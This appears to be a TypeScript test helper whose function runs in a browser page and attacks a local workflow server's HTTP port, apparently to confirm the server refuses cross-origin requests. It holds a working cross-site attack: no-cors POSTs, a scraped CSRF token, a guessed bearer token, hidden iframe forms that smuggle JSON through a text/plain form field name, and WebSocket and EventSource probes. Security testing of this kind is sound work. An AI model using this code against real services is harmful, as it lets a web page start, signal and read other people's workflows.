/** What a page attacks: one port, with ids by which the test sees what came of it. */
export interface AttackTarget {
  /** `http://host:port`. */
  readonly base: string;
  /** Begins the ids of the workflows that it starts and the names of the signals that it sends. */
  readonly id: string;
  /** The workflow to signal and to read of. */
  readonly victim: string;
}

/** As much as is used of a page's globals. */
interface PageGlobals {
  readonly document: {
    readonly cookie: string;
    readonly body: { insertAdjacentHTML(where: 'beforeend', html: string): void };
    readonly forms: ArrayLike<{ submit(): void }>;
    querySelectorAll(selector: string): ArrayLike<{ onload: () => void }>;
  };
  readonly EventSource: new (url: string) => { onmessage: unknown; onopen: unknown; close(): void };
}

/**
 * Runs in a page, so it uses nothing of this module. Tries to read, to start a workflow and to signal one in all
 * ways that a page has, and returns what it could read: `status URL text`.
 */
export async function attackFromPage({ base, id, victim }: AttackTarget): Promise<string[]> {
  const { document, EventSource } = globalThis as unknown as PageGlobals;
  // Ports that speak no HTTP close the connection at once; this is for one that doesn't.
  const patience = 5_000;
  const read: string[] = [];
  const send = async (url: string, init: RequestInit = {}) => {
    try {
      const response = await fetch(url, { ...init, signal: AbortSignal.timeout(patience) });
      if (response.type !== 'opaque')
        read.push(`${response.status} ${url} ${(await response.text()).slice(0, 400)}`);
    } catch {
      // Refused by the server or by the browser.
    }
  };
  const opened = (url: string, source: { onopen: unknown; onmessage: unknown; close(): void }) =>
    new Promise<void>((resolve) => {
      const done = () => {
        source.close();
        resolve();
      };
      const succeed = () => {
        read.push(`200 ${url} opened`);
        done();
      };
      Object.assign(source, { onopen: succeed, onmessage: succeed, onerror: done });
      setTimeout(done, patience);
    });

  const workflows = ['/api/v1', ''].map((prefix) => `${base}${prefix}/namespaces/default/workflows`);
  const histories = workflows.map((url) => `${url}/${victim}/history`);
  const pages = ['/', '/metrics', '/api/v1/settings'].map((path) => base + path);
  await Promise.all([...pages, ...workflows, ...histories].map((url) => send(url)));
  // The Web UI's answers set a token, which its own pages send back.
  const token = /_csrf=([^;]+)/.exec(document.cookie)?.[1] ?? 'guessed';

  const start = JSON.stringify({
    workflowType: { name: 'attack' },
    taskQueue: { name: 'nobody' },
    requestId: id,
  });
  const ways: Record<string, RequestInit> = {
    plain: { mode: 'no-cors', headers: { 'content-type': 'text/plain' } },
    token: { headers: { 'content-type': 'application/json', 'x-csrf-token': token } },
    authorized: { headers: { 'content-type': 'application/json', authorization: 'Bearer guessed' } },
  };
  const sent = Object.entries(ways).flatMap(([way, init]) =>
    workflows.flatMap((url) => [
      send(`${url}/${id}-${way}`, { method: 'POST', body: start, ...init }),
      send(`${url}/${victim}/signal/${id}-${way}`, { method: 'POST', body: '{}', ...init }),
    ]),
  );

  // A form of text is `name=value`: JSON, if the name opens a string that the value closes.
  const asName = (json: string) => `${json.slice(0, -1)}${json === '{}' ? '' : ','}"identity":"`;
  const forms = workflows.flatMap((url) => [
    [`${url}/${id}-form`, start] as const,
    [`${url}/${victim}/signal/${id}-form`, '{}'] as const,
  ]);
  const html = forms.map(
    ([url, json], index) =>
      `<iframe name="frame${index}"></iframe><form target="frame${index}" action="${url}" method="post" ` +
      `enctype="text/plain"><input name='${asName(json)}' value='"}'></form>`,
  );
  document.body.insertAdjacentHTML('beforeend', html.join(''));
  const frames = Array.from(document.querySelectorAll('iframe'));
  const loaded = frames.map(
    (frame, index) =>
      new Promise<void>((resolve) => {
        frame.onload = resolve;
        setTimeout(resolve, patience);
        document.forms[index]?.submit();
      }),
  );
  const sockets = [`${base.replace('http', 'ws')}/api/v1/namespaces`].map((url) =>
    opened(url, new WebSocket(url)),
  );
  const events = workflows.map((url) => opened(url, new EventSource(url)));
  await Promise.all([...sent, ...loaded, ...sockets, ...events]);
  return read;
}
